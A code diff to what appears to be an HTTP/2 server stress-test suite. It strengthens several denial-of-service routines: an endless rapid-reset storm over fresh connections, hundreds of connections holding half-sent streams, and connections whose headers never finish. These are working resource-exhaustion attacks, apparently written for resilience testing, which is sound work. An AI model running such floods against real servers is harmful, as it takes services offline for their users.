@@ -179,9 +179,12 @@ def rapid_reset(target, told, over):
 @attack(STORM)
 def reset_storm(target, told, over):
     """Connections without a token that bring 2,000 resets and are closed at once."""
-    with Http2(stranger(target), reads=False) as peer:
-        peer.send(resets(peer, 2000))
-        told["resets"] += 2000
+    with Http2(stranger(target)) as peer:
+        storm = PREFACE + frame(SETTINGS, 0, 0) + resets(peer, 2000)
+    while not over.is_set():
+        with contextlib.closing(target.tcp()) as peer:
+            peer.sendall(storm)
+            told["resets"] += 2000
 
 
 @attack(STORM)
@@ -194,6 +197,18 @@ def reset_storm_kept(target, told, over):
 def reset_storm_of_messages(target, told, over):
     """The same of calls that have sent the head of a message."""
     keep_resetting(stranger(target), told, over, message=True)
+
+
+@attack(STORM)
+def calls_without_end(target, told, over):
+    """As many calls as may be open, on as many connections as there are places, each with the head of a message and no more."""
+    peers = held(lambda: Http2(stranger(target)), 400)
+    for peer in peers:
+        with contextlib.suppress(OSError):
+            for _ in range(100):
+                stream = peer.next
+                peer.send(peer.headers(STREAM) + frame(DATA, 0, stream, struct.pack(">BI", 0, 1000)))
+    hold(peers, told, over)
 
 
 @attack(STORM)
@@ -231,9 +246,10 @@ def continuation_flood(target, told, over):
 @attack("http2")
 def headers_without_end(target, told, over):
     """Fifty connections whose header stops in the middle."""
-    peers = [Http2(target) for _ in range(50)]
+    peers = held(lambda: Http2(target), 50)
     for peer in peers:
-        peer.send(peer.headers(flags=0))
+        with contextlib.suppress(OSError):
+            peer.send(peer.headers(flags=0))
     hold(peers, told, over)
 
 
